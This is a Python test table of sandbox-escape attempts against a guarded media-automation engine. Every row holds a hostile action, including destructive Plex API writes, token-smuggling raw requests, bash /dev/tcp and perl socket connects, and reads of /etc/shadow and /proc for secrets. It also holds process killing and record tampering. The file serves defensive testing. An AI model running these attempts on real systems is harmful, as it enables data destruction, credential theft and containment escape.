"""What a hostile engine tries from inside its walls: one row each. To add one, add a row.

The code of a row runs inside the engine, in a process of its own, with the names of `engine/prelude.py`; its last line is
what it got. An attempt fails by raising an OSError, or it seems to succeed and nothing has happened. `wall` is the one that
must hold it, and is asked for its record; `alone` is what the same attempt does where no wall stands, so that each row is
known to be a real one.
"""

# ruff: noqa: E501  a row is a line
from dataclasses import dataclass
from enum import Enum

from tests.hostile.attempts import ATTEMPTS


class Wall(Enum):
    """The wall that must hold an attempt."""

    CONFIGURATION = "configuration"  #: what it needs is not told to it
    GUARD = "guard"  #: it is refused, or answered harmlessly, inside the process, and on the guard's record
    EGRESS = "egress"  #: it gets as far as the egress, and is on its record
    SANDBOX = "sandbox"  #: the kernel refuses it; a wall that is no program keeps no record
    GATEWAY = "gateway"  #: it reaches the gateway, is captured or refused there, and on its record


class Alone(Enum):
    """What an attempt does where no wall stands."""

    CHANGES = "changes the server"
    HEARD = "is heard by the server or by somebody else"
    DONE = "succeeds"
    UNTRIED = "is not tried: it would leave this machine or harm it, or a server takes it for nothing"


@dataclass(frozen=True, slots=True)
class Breakout:
    """One attempt. `guarded` False runs it in a Python that has dropped the guard (`env -i python -I -S`)."""

    name: str
    code: str
    wall: Wall
    alone: Alone
    guarded: bool = True
    recorded: bool = True
    host: str = ""  #: what the egress calls whom it was asked for
    seeming: bool = False  #: it may seem to succeed, as long as nothing has happened


def through_plexapi(name: str, code: str, alone: Alone = Alone.CHANGES) -> Breakout:
    """A write as python-plexapi makes it, to the Plex that the engine was told."""
    return Breakout(f"plexapi: {name}", code, Wall.GATEWAY, alone)


def past_the_table(name: str, code: str, alone: Alone = Alone.CHANGES, *, guarded: bool = True) -> Breakout:
    """A write to the gateway in some other way."""
    return Breakout(name, code, Wall.GATEWAY, alone, guarded)


def from_the_process(name: str, code: str, alone: Alone = Alone.HEARD, *, recorded: bool = True) -> Breakout:
    """An attempt of the engine's own process to reach somebody else. Not `recorded`: a sandbox may be there first."""
    return Breakout(f"guarded: {name}", code, Wall.GUARD, alone, recorded=recorded)


def unguarded(name: str, code: str, alone: Alone = Alone.DONE, *, seeming: bool = False) -> Breakout:
    """An attempt of a program that has no guard in it."""
    return Breakout(f"unguarded: {name}", code, Wall.SANDBOX, alone, guarded=False, recorded=False, seeming=seeming)


CHANGES, HEARD, DONE, UNTRIED = Alone.CHANGES, Alone.HEARD, Alone.DONE, Alone.UNTRIED

PLEXAPI = (
    through_plexapi("edit a title", "movie().editTitle('Hacked')"),
    through_plexapi("edit a sort title", "movie().editSortTitle('Hacked')"),
    through_plexapi("edit a summary", "movie().editSummary('Hacked', locked=False)"),
    through_plexapi("edit a studio", "movie().editStudio('Hacked')"),
    through_plexapi("edit a release date", "movie().editOriginallyAvailable('2001-01-01')"),
    through_plexapi("edit a content rating", "movie().editContentRating('X')"),
    through_plexapi("edit many fields", "movie().batchEdits().editTitle('H').editTagline('H').addLabel('H').saveEdits()"),
    through_plexapi("edit a field by name", "movie().editField('title', 'Hacked')"),
    through_plexapi("edit with raw arguments", "movie().edit(**{'title.value': 'Hacked', 'title.locked': 1})"),
    through_plexapi("add a label", "movie().addLabel('Hacked')"),
    through_plexapi("remove a label", "movie().removeLabel('Keep')"),
    through_plexapi("add a genre", "movie().addGenre('Hacked')"),
    through_plexapi("remove a genre", "movie().removeGenre('Drama')"),
    through_plexapi("add to a collection", "movie(103).addCollection('Men at Work')"),
    through_plexapi("remove from a collection", "movie().removeCollection('Men at Work')"),
    through_plexapi("edit a director", "movie().addDirector('Hacked')"),
    through_plexapi("lock a poster", "movie().lockPoster()"),
    through_plexapi("lock a background", "movie().lockArt()"),
    through_plexapi("lock a field of a section", "movies().lockAllField('title')"),
    through_plexapi("unlock a field of a section", "movies().unlockAllField('title')", UNTRIED),
    through_plexapi("edit several movies", "movies().multiEdit([movie(101), movie(102)], **{'title.value': 'Hacked'})"),
    through_plexapi(
        "edit several movies in a batch",
        "s = movies()\ns.batchMultiEdits([movie(101), movie(102)])\ns.addLabel('Hacked').saveMultiEdits()",
    ),
    through_plexapi("upload a poster", "movie().uploadPoster(filepath=picture())"),
    through_plexapi("upload a poster by address", "movie().uploadPoster(url=ELSEWHERE + '/x.png')", UNTRIED),
    through_plexapi("upload a background", "movie().uploadArt(filepath=picture())"),
    through_plexapi("upload a logo", "movie().uploadLogo(filepath=picture())"),
    through_plexapi("upload a square picture", "movie().uploadSquareArt(filepath=picture())"),
    through_plexapi("upload a theme", "movie().uploadTheme(filepath=picture())"),
    through_plexapi("upload a season's poster", "movie(211).uploadPoster(filepath=picture())"),
    through_plexapi("upload an episode's picture", "movie(212).uploadPoster(filepath=picture())"),
    through_plexapi("upload a collection's poster", "movie(900).uploadPoster(filepath=picture())"),
    through_plexapi("upload a playlist's poster", "movie(950).uploadPoster(filepath=picture())"),
    through_plexapi("upload and then select", "m = movie(); m.uploadPoster(filepath=picture()); m.setPoster(m.posters()[0])"),
    through_plexapi("upload subtitles", "movie().uploadSubtitles(picture())", UNTRIED),
    through_plexapi("delete a poster", "movie().deletePoster()", UNTRIED),
    through_plexapi("rate", "movie().rate(1.0)"),
    through_plexapi("take a rating back", "movie().rate(None)", UNTRIED),
    through_plexapi("mark as played", "movie().markPlayed()"),
    through_plexapi("mark as unplayed", "movie().markUnplayed()", UNTRIED),
    through_plexapi("set the progress", "movie().updateProgress(90000)", UNTRIED),
    through_plexapi("report playback", "movie().updateTimeline(90000, state='playing', duration=99999)", UNTRIED),
    through_plexapi("hide from continue watching", "movie().removeFromContinueWatching()", UNTRIED),
    through_plexapi("analyze", "movie().analyze()", UNTRIED),
    through_plexapi("refresh", "movie().refresh()", UNTRIED),
    through_plexapi("match with something else", "plex().query('/library/metadata/101/match?guid=x&name=H', method=plex()._session.put)", UNTRIED),
    through_plexapi("unmatch", "movie().unmatch()", UNTRIED),
    through_plexapi("optimize for a phone", "plex().query('/playlists/1/items?Item%5Btype%5D=42&Item%5Btitle%5D=H', method=plex()._session.put)", UNTRIED),
    through_plexapi("select an audio stream", "plex().query('/library/parts/301?audioStreamID=1', method=plex()._session.put)", UNTRIED),
    through_plexapi("create a collection", "movies().createCollection('Hacked', items=[movie()])"),
    through_plexapi("create a smart collection", "movies().createCollection('Hacked', smart=True, filters={'year>>': 1900})"),
    through_plexapi("add items to a collection", "movie(900).addItems(movie(103))"),
    through_plexapi("remove items from a collection", "movie(900).removeItems(movie(101))"),
    through_plexapi("move an item of a collection", "c = movie(900); c.moveItem(c.items()[0], after=c.items()[1])"),
    through_plexapi("set a collection's mode", "movie(900).modeUpdate('hide')"),
    through_plexapi("set a collection's order", "movie(900).sortUpdate('alpha')"),
    through_plexapi("show a collection on everybody's home", "plex().query('/hubs/sections/1/manage?promotedToRecommended=0&promotedToOwnHome=0&promotedToSharedHome=1&metadataItemId=900', method=plex()._session.post)"),
    through_plexapi("edit a collection", "movie(900).editTitle('Hacked')"),
    through_plexapi("create a playlist", "plex().createPlaylist('Hacked', items=[movie()])"),
    through_plexapi("create a smart playlist", "plex().createPlaylist('H', section=movies(), smart=True, filters={'year>>': 1900})"),
    through_plexapi("add items to a playlist", "movie(950).addItems(movie(102))"),
    through_plexapi("remove items from a playlist", "p = movie(950); p.removeItems(p.items()[0])"),
    through_plexapi("move an item of a playlist", "p = movie(950); p.addItems(movie(102)); p.moveItem(p.items()[0], after=p.items()[1])"),
    through_plexapi("edit a playlist", "movie(950).editTitle('Hacked')"),
    through_plexapi("create a play queue", "plex().createPlayQueue(movie())", UNTRIED),
    through_plexapi("scan a section", "movies().update()", UNTRIED),
    through_plexapi("scan a folder", "movies().update(path='/media')", UNTRIED),
    through_plexapi("refresh a section", "movies().refresh()", UNTRIED),
    through_plexapi("stop a scan", "movies().cancelUpdate()", UNTRIED),
    through_plexapi("scan everything", "plex().library.update()", UNTRIED),
    through_plexapi("refresh everything", "plex().library.refresh()", UNTRIED),
    through_plexapi("analyze a section", "movies().analyze()", UNTRIED),
    through_plexapi("empty a section's trash", "movies().emptyTrash()", UNTRIED),
    through_plexapi("empty all trash", "plex().library.emptyTrash()", UNTRIED),
    through_plexapi("delete previews", "movies().deleteMediaPreviews()", UNTRIED),
    through_plexapi("edit a section", "movies().edit(name='Hacked')", UNTRIED),
    through_plexapi("edit a section's settings", "movies().editAdvanced(collectionMode=0)", UNTRIED),
    through_plexapi("delete a section", "movies().delete()", UNTRIED),
    through_plexapi(
        "add a section",
        "plex().library.add('H', 'movie', 'tv.plex.agents.movie', 'Plex Movie', location='/tmp', language='en-US')",
        UNTRIED,
    ),
    through_plexapi("put up a hub", "plex().query('/hubs/sections/1/manage', method=plex()._session.delete)", UNTRIED),
    through_plexapi("clean bundles", "plex().library.cleanBundles()", UNTRIED),
    through_plexapi("optimize the database", "plex().library.optimize()", UNTRIED),
    through_plexapi(
        "change a setting of the server",
        "plex().query('/:/prefs?FriendlyName=Hacked', method=plex()._session.put)",
        UNTRIED,
    ),
    through_plexapi("allow deleting of media", "plex()._allowMediaDeletion(False)", UNTRIED),
    through_plexapi("run a task of the butler", "plex().runButlerTask('BackupDatabase')", UNTRIED),
    through_plexapi("update the server", "plex().query('/updater/apply', method=plex()._session.put)", UNTRIED),
    through_plexapi("look for updates", "plex().checkForUpdate(force=True, download=True)", UNTRIED),
    through_plexapi("give up the server's claim", "plex().unclaim()", UNTRIED),
    through_plexapi("ask for a passing token", "plex().query('/security/token?type=delegation&scope=all')", UNTRIED),
    through_plexapi("refresh synced things", "plex().refreshSynclist()", UNTRIED),
    through_plexapi("stop the conversions", "plex().conversions(pause=True)", UNTRIED),
    through_plexapi("delete optimized versions", "plex().optimizedItems(removeAll=True)", UNTRIED),
    through_plexapi("end a session", "plex().query('/status/sessions/terminate?sessionId=1&reason=x')", UNTRIED),
)  # fmt: skip

#: Last among the writes: what is gone can be changed no more.
DELETIONS = (
    through_plexapi("delete a version", "movie(102).media[0].delete()", UNTRIED),
    through_plexapi("split", "movie(102).split()", UNTRIED),
    through_plexapi("merge", "movie().merge([102])", UNTRIED),
    through_plexapi("delete an episode", "movie(212).delete()"),
    through_plexapi("delete a show", "movie(210).delete()"),
    through_plexapi("delete a playlist", "movie(950).delete()"),
    through_plexapi("delete a collection", "movie(900).delete()"),
    through_plexapi("delete a movie", "movie().delete()"),
)

WIRE = tuple(
    Breakout(
        f"wire: {attempt.name}",
        f"send(bytes.fromhex('{attempt.raw.hex()}'))",
        Wall.GATEWAY,
        UNTRIED,  # tests/hostile/test_gateway.py tries them against a server without a gateway
        recorded=attempt.recorded,
    )
    for attempt in ATTEMPTS
)

OTHER_WRITES = (
    past_the_table("a write from a program without guard", "put(None)", guarded=False),
    past_the_table("a write with curl", "run('curl', '-sS', '-X', 'PUT', '-H', f'X-Plex-Token: {TOKEN}', GATEWAY + '/library/metadata/101?title.value=H')", UNTRIED, guarded=False),
    past_the_table(
        "a write that names the real server as the original address",
        "send(b'PUT /library/metadata/101?title.value=H HTTP/1.1\\r\\nHost: x\\r\\nX-Plex-Token: {token}\\r\\n'\n"
        "     b'X-Halley-Original-URL: http://{real}/library/metadata/101?title.value=H\\r\\nContent-Length: 0\\r\\n\\r\\n')",
        UNTRIED,
    ),
    past_the_table(
        "a write to plex.tv with the gateway's help",
        "send(b'DELETE /api/v2/users/signout HTTP/1.1\\r\\nHost: x\\r\\nX-Plex-Token: {token}\\r\\n'\n"
        "     b'X-Halley-Original-URL: https://plex.tv/api/v2/users/signout\\r\\n\\r\\n')",
        UNTRIED,
    ),
    past_the_table(
        "resources of plex.tv, which hold tokens",
        "send(b'GET /api/v2/resources HTTP/1.1\\r\\nHost: x\\r\\nX-Plex-Token: {token}\\r\\n'\n"
        "     b'X-Halley-Original-URL: https://plex.tv/api/v2/resources\\r\\n\\r\\n')",
        UNTRIED,
    ),
)  # fmt: skip

_WRITE = "/library/metadata/101?title.value=Hacked&X-Plex-Token="

GUARDED = (
    from_the_process("the real server with requests", f"import requests; requests.put(REAL + {_WRITE!r} + SECRET)", CHANGES),
    from_the_process("the real server with DELETE", "import requests; requests.delete(f'{REAL}/library/metadata/101?X-Plex-Token={SECRET}')", CHANGES),
    from_the_process("the real server in odd case", f"import requests; requests.request('pUt', REAL + {_WRITE!r} + SECRET)", CHANGES),
    from_the_process(
        "the real server with an adapter of its own",
        "import requests\n"
        "class Mine(requests.adapters.HTTPAdapter):\n"
        "    pass\n"
        "s = requests.Session(); s.mount('http://', Mine())\n"
        f"s.put(REAL + {_WRITE!r} + SECRET)",
        CHANGES,
    ),
    from_the_process("the real server with plexapi", "from plexapi.server import PlexServer; import requests\nrequests.put(REAL + '/library/sections/1/all?type=1&id=101&title.value=H', headers={'X-Plex-Token': SECRET})", CHANGES),
    from_the_process("the real server with urllib", f"import urllib.request as u; u.urlopen(u.Request(REAL + {_WRITE!r} + SECRET, method='PUT'))", CHANGES),
    from_the_process("the real server with urllib3", f"import urllib3\ntry:\n    urllib3.PoolManager(retries=False).request('PUT', REAL + {_WRITE!r} + SECRET)\nexcept urllib3.exceptions.HTTPError as problem:\n    raise OSError from problem", CHANGES),
    from_the_process("the real server with http.client", f"c = http.client.HTTPConnection(*REAL_PLACE); c.request('PUT', {_WRITE!r} + SECRET); c.getresponse().status", CHANGES),
    from_the_process("the real server with a socket", f"put(REAL_PLACE, {_WRITE!r} + SECRET)", CHANGES),
    from_the_process("the real server with connect_ex", "checked(-socket.socket().connect_ex(REAL_PLACE))", DONE),
    from_the_process("the real server with a C socket", "import _socket; _socket.socket().connect(REAL_PLACE)", DONE),
    from_the_process("the real server with asyncio", "import asyncio; asyncio.run(asyncio.open_connection(*REAL_PLACE)); 1", DONE),
    from_the_process("the real server over IPv6", "socket.create_connection(('::ffff:127.0.0.1', REAL_PLACE[1]), 3)", DONE),
    from_the_process(
        "after http.client was loaded anew",
        "import importlib; importlib.reload(http.client)\n"
        f"c = http.client.HTTPConnection(*REAL_PLACE); c.request('PUT', {_WRITE!r} + SECRET); c.getresponse().status",
        CHANGES,
    ),
    from_the_process(
        "after the guard's modules were thrown away",
        "for name in [name for name in sys.modules if name.startswith(('halley_guard', 'sitecustomize', 'http.client'))]:\n"
        "    del sys.modules[name]\n"
        "sys.meta_path[:] = sys.meta_path[1:]\n"
        "import http.client as fresh\n"
        f"c = fresh.HTTPConnection(*REAL_PLACE); c.request('PUT', {_WRITE!r} + SECRET); c.getresponse().status",
        CHANGES,
    ),
    from_the_process("a webhook on this machine", "import requests; requests.post(ELSEWHERE + '/api/webhooks/1/abc', json={'content': 'hello'})"),
    from_the_process("Radarr on the network", "import requests; requests.post('http://192.0.2.7:7878/api/v3/movie', json={'title': 'Heat'})", UNTRIED),
    from_the_process("a webhook of Discord", "import requests; requests.post('https://discord.com/api/webhooks/1/abc', json={'content': 'x'})", UNTRIED),
    from_the_process("plex.tv: sign out", "import requests; requests.delete('https://plex.tv/api/v2/users/signout')", UNTRIED),
    from_the_process("plex.tv: add a webhook", "import requests; requests.post('https://plex.tv/api/v2/user/webhooks', data={'urls[]': ELSEWHERE})", UNTRIED),
    from_the_process("plex.tv: share the server", "import requests; requests.post('https://plex.tv/api/servers/abc/shared_servers', json={})", UNTRIED),
    from_the_process("plex.tv: a watchlist", "import requests; requests.put('https://discover.provider.plex.tv/actions/addToWatchlist?ratingKey=1')", UNTRIED),
    from_the_process("a name that leads here", "socket.create_connection(('127.0.0.1.nip.io', REAL_PLACE[1]), 3)", UNTRIED),
    from_the_process("a datagram", "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', int(KNOWN['datagrams'])))", recorded=False),
    from_the_process("a Unix socket", "socket.socket(socket.AF_UNIX).connect(KNOWN['unix_socket'])", DONE, recorded=False),
    from_the_process("a tunnel", "c = http.client.HTTPSConnection(*REAL_PLACE); c.set_tunnel('discord.com', 443); c.request('GET', '/')", UNTRIED),
    from_the_process("a child that inherits the guard", "import subprocess; subprocess.run([sys.executable, '-c', f'import socket; socket.create_connection({REAL_PLACE!r})'], check=True, capture_output=True)", DONE),
    from_the_process("the egress by POST", "import json, requests; requests.post(json.load(open(os.environ['HALLEY_GUARD']))['egress'] + '/', headers={'X-Halley-Original-URL': ELSEWHERE})", UNTRIED),
)  # fmt: skip

EGRESS = (
    Breakout("read: the real server", "import requests; requests.get(f'{REAL}/:/scrobble?key=101&identifier=com.plexapp.plugins.library&X-Plex-Token={SECRET}')", Wall.EGRESS, CHANGES, host="127.0.0.1"),
    Breakout("read: the link-local address of clouds", "import requests; requests.get('http://169.254.169.254/latest/meta-data/')", Wall.EGRESS, UNTRIED, host="169.254.169.254"),
    Breakout("read: IPv6 loopback", "import requests; requests.get('http://[::1]:32400/library/sections/1/refresh')", Wall.EGRESS, UNTRIED, host="::1"),
    Breakout("read: a number for an address", "import requests; requests.get(f'http://2130706433:{REAL_PLACE[1]}/')", Wall.EGRESS, UNTRIED, host="2130706433"),
    Breakout("read: a name that leads here", "import requests; requests.get(f'http://rebind.example:{REAL_PLACE[1]}/')", Wall.EGRESS, UNTRIED, host="rebind.example"),
    Breakout("read: a webhook by GET", "import requests; requests.get('https://maker.ifttt.example/trigger/x')", Wall.EGRESS, UNTRIED, host="maker.ifttt.example"),
    Breakout("read: a user name in the address", "import requests; requests.get('https://api.themoviedb.org@evil.example/')", Wall.EGRESS, UNTRIED, host="evil.example"),
    Breakout("read: a listed host at another port", "import requests; requests.get('http://www.omdbapi.com:8080/')", Wall.EGRESS, UNTRIED, host="www.omdbapi.com"),
    Breakout("read: a method in a header", "import requests; requests.get('https://www.imdb.com/', headers={'X-HTTP-Method-Override': 'DELETE'})", Wall.EGRESS, UNTRIED, host="www.imdb.com"),
)  # fmt: skip

NETWORK = (
    unguarded("the real server with a socket", f"put(REAL_PLACE, {_WRITE!r} + SECRET)", CHANGES),
    unguarded("the real server over IPv6", "socket.create_connection(('::ffff:127.0.0.1', REAL_PLACE[1]), 3)"),
    unguarded("IPv6 loopback", "socket.create_connection(('::1', int(KNOWN['ipv6'])), 3)"),
    unguarded("any address of this machine", "socket.create_connection(('0.0.0.0', REAL_PLACE[1]), 3)"),
    unguarded("the machine by its name", "socket.create_connection((socket.gethostname(), REAL_PLACE[1]), 3)", UNTRIED),
    unguarded("another machine", "socket.create_connection(('192.0.2.1', 443), 3)", UNTRIED),
    unguarded("a name", "socket.getaddrinfo('example.org', 80)", UNTRIED),
    unguarded("a name server", "socket.create_connection(('192.0.2.53', 53), 3)", UNTRIED),
    unguarded(
        "the C library's connect",
        "s = socket.socket()\nchecked(C.connect(s.fileno(), address(REAL_PLACE), 16))",
    ),
    unguarded("connect as a system call", "s = socket.socket()\ncall(42, s.fileno(), address(REAL_PLACE), 16)"),
    unguarded(
        "a fast open, which sends before it connects",
        "socket.socket().sendto(b'PUT /x HTTP/1.1\\r\\n\\r\\n', 0x20000000, REAL_PLACE)",
    ),
    unguarded("a multipath socket", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(REAL_PLACE)", UNTRIED),
    unguarded(
        "a ring of the kernel, which makes sockets unseen",
        "call(425, 8, ctypes.create_string_buffer(120))",
        UNTRIED,
    ),
    unguarded("a datagram", "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', int(KNOWN['datagrams'])))", HEARD),
    unguarded("a raw socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", UNTRIED),
    unguarded("a packet socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)", UNTRIED),
    unguarded("a virtual machine's socket", "socket.socket(40, socket.SOCK_STREAM).connect((2, 1024))", UNTRIED),
    unguarded("a Unix socket of the user's", "socket.socket(socket.AF_UNIX).connect(KNOWN['unix_socket'])"),
    unguarded(
        "a write through the relay's socket itself",
        "words = Path('/proc/1/cmdline').read_bytes().split(b'\\0')\n"
        "path = next((word.rpartition(b'=')[2] for word in words if word.endswith(b'plex.sock')), None)\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "s.connect(path or str(NOTES / 'no socket'))\n"
        "s.sendall(b'PUT /library/metadata/101?title.value=H HTTP/1.1\\r\\nHost: x\\r\\nX-Plex-Token: ' + TOKEN.encode() + b'\\r\\n\\r\\n')\n"
        "s.recv(100)",
        UNTRIED,
    ),
    unguarded("an abstract Unix socket", "socket.socket(socket.AF_UNIX).connect('\\0' + KNOWN['abstract_socket'])"),
    unguarded(
        "sockets of container engines and buses",
        "for path in ('/run/podman/podman.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private'):\n"
        "    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n    except OSError:\n        continue\n"
        "    raise AssertionError(path)\n"
        "raise Nothing('no socket')",
        UNTRIED,
    ),
    unguarded("curl", "run('curl', '-sS', '--max-time', '5', '-X', 'PUT', REAL + '/library/metadata/101')", UNTRIED),
    unguarded("bash", "run('bash', '-c', 'exec 3<>/dev/tcp/%s/%s' % REAL_PLACE)"),
    unguarded("a program of the shell's", "run('sh', '-c', 'command -v nc wget perl && exec perl -MSocket -e \\'socket(S,2,1,6); connect(S,pack_sockaddr_in(shift,inet_aton(\"127.0.0.1\"))) or exit 1\\' ' + str(REAL_PLACE[1]))", UNTRIED),
    unguarded(
        "a network of its own making",
        "checked(C.unshare(0x10000000 | 0x40000000))\nsocket.create_connection(REAL_PLACE, 3)",
        UNTRIED,
    ),
    unguarded("the outside's network", "checked(C.setns(os.open(f'/proc/{OUTSIDER}/ns/net', os.O_RDONLY), 0))", UNTRIED),
    unguarded("a server of its own", "s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); raise Nothing('only this sandbox hears it') if KNOWN['own_network'] else AssertionError('it listens')", UNTRIED),
)  # fmt: skip

SECRETS = (
    unguarded("the user's configuration", "searched([USER / 'config.yml'])"),
    unguarded("whatever lies beside it", "searched(below(USER))"),
    unguarded("a note that holds the token", "searched([USER / 'notes' / 'old.txt'])"),
    unguarded("a token file elsewhere", "searched([Path(KNOWN['secret'])])"),
    unguarded("through the links of proc", "searched([Path('/proc/self/root' + KNOWN['secret']), Path('/proc/1/root' + KNOWN['secret'])])"),
    unguarded("through a link of its own", "(NOTES / 'link').symlink_to(KNOWN['secret'])\nsearched([NOTES / 'link'])"),
    unguarded("through a hard link", "os.link(KNOWN['secret'], NOTES / 'hard')\nsearched([NOTES / 'hard'])"),
    unguarded("every process's environment", "searched(Path('/proc').glob('[0-9]*/environ'))"),
    unguarded("every process's command line", "searched(Path('/proc').glob('[0-9]*/cmdline'))", UNTRIED),
    unguarded("every open file", "searched(Path('/proc').glob('[0-9]*/fd/*'))", UNTRIED),
    unguarded("an outsider's memory", "open(f'/proc/{OUTSIDER}/mem', 'rb').read(1)", UNTRIED),
    unguarded("temporary folders", "searched([*below('/tmp'), *below('/var/tmp'), *below('/run'), *below('/dev/shm')])", UNTRIED),
    unguarded("memory shared by name", "searched([Path(KNOWN['shared_memory'])])"),
    unguarded("the home and the system's settings", "searched([*Path('/root').glob('*/*'), *Path('/home').glob('*/*/*'), *below('/etc')])", UNTRIED),
    unguarded("the job folder", "searched(below(JOB))", UNTRIED),
    unguarded("its own memory and environment", "searched([Path('/proc/self/environ'), Path(f'/proc/{os.getppid()}/environ')])", UNTRIED),
    unguarded("the password file", "open('/etc/shadow').read() and 1", UNTRIED),
    unguarded("the machine's memory and disks", "[open(path, 'rb').read(1) for path in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda')]", UNTRIED),
    unguarded("the user's keys in the kernel", "call(250, 11, ctypes.c_long(-4), ctypes.create_string_buffer(64), 64)\nraise Nothing('no key of ours')", UNTRIED),
)  # fmt: skip

FILES = (
    unguarded("write the user's configuration", "open(USER / 'config.yml', 'a').write('x')", seeming=True),
    unguarded("make a file beside it", "open(USER / 'new.yml', 'w').write('x')"),
    unguarded("overwrite an asset", "open(USER / 'asset.txt', 'w').write('x')"),
    unguarded("truncate an asset", "os.truncate(USER / 'asset.txt', 0)"),
    unguarded("delete an asset", "os.unlink(USER / 'asset.txt')"),
    unguarded("rename an asset", "os.rename(USER / 'asset.txt', USER / 'other.txt')"),
    unguarded("carry an asset away", "os.rename(USER / 'asset.txt', NOTES / 'asset.txt')"),
    unguarded("swap two files", "checked(C.renameat2(-100, bytes(USER / 'asset.txt'), -100, bytes(USER / 'notes' / 'old.txt'), 2))"),
    unguarded("write through a link", "(NOTES / 'way').symlink_to(USER / 'asset.txt'); open(NOTES / 'way', 'w').write('x')"),
    unguarded("write through its working directory", "open(NOTES / 'home' / 'config' / 'asset.txt', 'w').write('x')", UNTRIED),
    unguarded("make an asset readable for all", "os.chmod(USER / 'asset.txt', 0o777)", seeming=True),
    unguarded("lock the user out", "os.chmod(USER / 'config.yml', 0)", seeming=True),
    unguarded("give an asset away", "os.chown(USER / 'asset.txt', os.getuid(), 12345)", UNTRIED, seeming=True),
    unguarded("change an asset's times", "os.utime(USER / 'asset.txt', (1, 1))", seeming=True),
    unguarded("put an attribute on an asset", "os.setxattr(USER / 'asset.txt', 'user.hacked', b'1')", UNTRIED),
    unguarded("write the gateway's record", "open(RECORDS / 'changes.jsonl', 'w').write('')", seeming=True),
    unguarded("delete the gateway's record", "os.unlink(RECORDS / 'refused.jsonl')", seeming=True),
    unguarded("write the guard's settings", "open(RECORDS / 'guard.json', 'w').write('{}')", seeming=True),
    unguarded("write a captured picture", "open(RECORDS / 'images' / 'x', 'w').write('x')", seeming=True),
    unguarded("write the summary", "open(JOB / 'output' / 'summary.json', 'w').write('{\"success\": true}')", seeming=True),
    unguarded("write the job's description", "open(JOB / 'meta.json', 'w').write('{}')", seeming=True),
    unguarded("write the log", "open(JOB / 'logs' / 'kometa.log', 'a').write('Finished Run')", seeming=True),
    unguarded("replace a folder of the job", "os.rename(JOB / 'output', JOB / 'away'); os.symlink(USER, JOB / 'output')", seeming=True),
    unguarded("replace the job's configuration folder", "os.rename(JOB / 'config', JOB / 'away')", UNTRIED, seeming=True),
    unguarded("write the guard", "open(KNOWN['guard'] + '/sitecustomize.py', 'a').write('')"),
    unguarded("write Kometa", "open(KNOWN['kometa'] + '/kometa.py', 'a').write('')"),
    unguarded("write the Python that runs it", "open(os.path.dirname(os.__file__) + '/x.py', 'w').write('')", UNTRIED),
    unguarded("write the system", "open('/usr/bin/halley-was-here', 'w').write('')", UNTRIED),
    unguarded("write a setting of the kernel", "open('/proc/sys/kernel/core_pattern', 'r+')", UNTRIED),
    unguarded("write what the kernel obeys", "open('/proc/sysrq-trigger', 'w')", UNTRIED),
    unguarded("mount", "checked(C.mount(b'x', bytes(NOTES), b'tmpfs', 0, None))", UNTRIED),
    unguarded("mount in a namespace of its own", "checked(C.unshare(0x10000000 | 0x00020000)); checked(C.mount(b'x', bytes(USER), b'tmpfs', 0, None))", UNTRIED),
    unguarded("change the root", "os.chroot(NOTES)", UNTRIED),
    unguarded("make a device", "os.mknod(NOTES / 'disk', 0o60600, os.makedev(8, 0))\nopen(NOTES / 'disk', 'rb').read(1)", UNTRIED),
)  # fmt: skip

PROCESSES = (
    unguarded("limit a process outside", "import resource; resource.prlimit(OUTSIDER, resource.RLIMIT_CORE, (0, 0))"),
    unguarded("trace a process outside", "checked(C.ptrace(16, OUTSIDER, None, None))"),
    unguarded("take a file from a process outside", "call(438, os.pidfd_open(OUTSIDER), 1, 0)"),
    unguarded("kill a process outside", "os.kill(OUTSIDER, 9)"),
    unguarded(
        "kill it by a file descriptor", "import signal; signal.pidfd_send_signal(os.pidfd_open(OUTSIDER), 9)", UNTRIED
    ),
    unguarded("read the kernel's memory", "open('/proc/kcore', 'rb').read(64)", UNTRIED),
    unguarded("move the machine's interrupts", "open(next(Path('/proc/irq').glob('*/smp_affinity')), 'r+')", UNTRIED),
    unguarded("watch the machine's events", "call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)", UNTRIED),
    unguarded("load a program into the kernel", "call(321, 0, ctypes.create_string_buffer(120), 120)", UNTRIED),
    unguarded("set the machine's name", "socket.sethostname(socket.gethostname())", UNTRIED),
    unguarded("set the clock", "import time; time.clock_settime(time.CLOCK_REALTIME, time.time())", UNTRIED),
    unguarded("the keys that restart the machine", "checked(C.reboot(0))", UNTRIED),
)

KNOWLEDGE = tuple(
    Breakout(f"told: {name}", f"found = CONFIG.read_text(encoding='utf-8')\nif {what} not in found:\n    raise Nothing({name!r})", Wall.CONFIGURATION, UNTRIED, recorded=False)
    for name, what in (
        ("the real token", "SECRET"),
        ("the real server's address", "str(REAL_PLACE[1])"),
        ("Radarr", "'radarr-key'"),
        ("Sonarr", "'sonarr-key'"),
        ("a webhook", "'discord.com/api/webhooks'"),
        ("Notifiarr", "'notifiarr-key'"),
        ("Gotify", "'gotify-key'"),
        ("Tautulli", "'tautulli-key'"),
        ("a Trakt token that makes new ones", "'trakt-refresh'"),
    )
)  # fmt: skip

#: The last of all: they leave something behind for Halley to stumble over when the run has ended.
TRAPS = (
    unguarded("a daemon", "subprocess.Popen([*SLEEPER, KNOWN['mark']], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)"),
    unguarded("a daemon that keeps the output open", "engine = os.open(f'/proc/{os.getppid()}/fd/1', os.O_WRONLY)\nsubprocess.Popen([*SLEEPER, KNOWN['mark']], start_new_session=True, stdin=-3, stdout=engine, stderr=-3)"),
    unguarded("a pipe for a log", "os.makedirs(CONFIG.parent / 'logs', exist_ok=True); os.mkfifo(CONFIG.parent / 'logs' / 'meta.log')"),
    unguarded("a link to a secret for a log", "os.symlink(KNOWN['secret'], CONFIG.parent / 'logs' / 'a.log')\nos.symlink('/dev/zero', CONFIG.parent / 'logs' / 'b.log')"),
    unguarded("a program that runs as its owner", "os.umask(0); os.open(NOTES / 'sh', os.O_CREAT | os.O_WRONLY, 0o6755)\n1"),
